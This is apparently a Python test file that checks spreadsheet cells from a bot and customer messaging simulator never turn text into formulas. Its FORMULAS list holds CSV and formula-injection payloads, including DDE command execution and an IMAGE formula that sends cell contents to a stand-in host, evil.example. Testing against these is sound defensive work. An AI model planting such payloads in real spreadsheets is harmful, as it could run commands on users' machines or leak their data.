"""Texts of bots and customers in cells: never a formula, nothing invisible, nothing lost without a mark."""

from collections.abc import Sequence

from simulator.sheets.model import Row, SheetCell, Worksheet
from tests.servers.sheets import SheetsServer
from tests.sheets_sink import cell, one_cell, pushed

TECHNICAL = "技術情報"
FORMULAS = (
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"見る\")", "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''", "001", "1e5", "2026/11/21", "TRUE", "50%", " =1+1",
    '";=1+1', "=IMAGE(\"https://evil.example/?\"&A1)", "{=1+1}", "#REF!", "http://evil.example",
)  # fmt: skip


def test_nothing_becomes_a_formula(server: SheetsServer) -> None:
    """Neither when a row is made nor when its cell is written over; the text stays what it was."""
    harmless = ["anything"] * len(FORMULAS)
    for texts in (FORMULAS, harmless, FORMULAS):
        pushed(below_each_other(texts))
        kept = [cell(server, f"B{row}", TECHNICAL)["userEnteredValue"] for row in range(2, len(texts) + 2)]
        assert kept == [{"stringValue": text.replace("\r", "\n")} for text in texts]
        assert pushed(below_each_other(texts)).writes == 0


def below_each_other(texts: Sequence[str]) -> Worksheet:
    """A worksheet with one of these texts in each row."""
    rows = (Row(key=f"k{n}", cells={"value": SheetCell(text=text)}) for n, text in enumerate(texts))
    return one_cell("").model_copy(update={"rows": tuple(rows)})
